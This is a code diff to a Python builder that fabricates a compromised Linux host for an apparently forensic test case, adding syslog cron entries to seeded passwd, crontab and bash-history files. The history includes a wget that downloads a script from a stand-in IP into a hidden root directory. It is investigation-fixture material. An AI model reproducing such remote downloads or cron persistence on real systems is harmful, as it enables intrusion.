@@ -135,6 +135,11 @@ def build(workdir: Path) -> OperatorCase:
     }
     a["/etc/passwd"] = (b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
                         b"op:x:1000:1000:,,,:/home/op:/bin/bash\n", utc("2011-03-01T09:00:00"))
+    a["/var/log/syslog"] = (
+        f"Mar 16 03:20:01 srv1 CRON[3001]: (root) CMD ({CRON_COMMAND})\n"
+        f"Mar 16 03:25:01 srv1 CRON[3010]: (root) CMD ({CRON_COMMAND})\n"
+        f"Mar 16 03:25:01 srv1 rsyslogd: [origin software=\"rsyslogd\"] rsyslogd was HUPed\n"
+        f"Mar 17 00:00:01 srv1 CRON[4001]: (root) CMD ({CRON_COMMAND})\n".encode(), t_a)
     a["/var/spool/cron/crontabs/root"] = (f"# m h dom mon dow command\n{CRON_LINE}\n".encode(),
                                           utc("2011-03-02T13:00:00"))
     a["/root/.bash_history"] = (f"#{utc('2011-03-16T03:15:00')}\nwget http://203.0.113.66/upd.sh -O /root/.x/upd.sh\n"
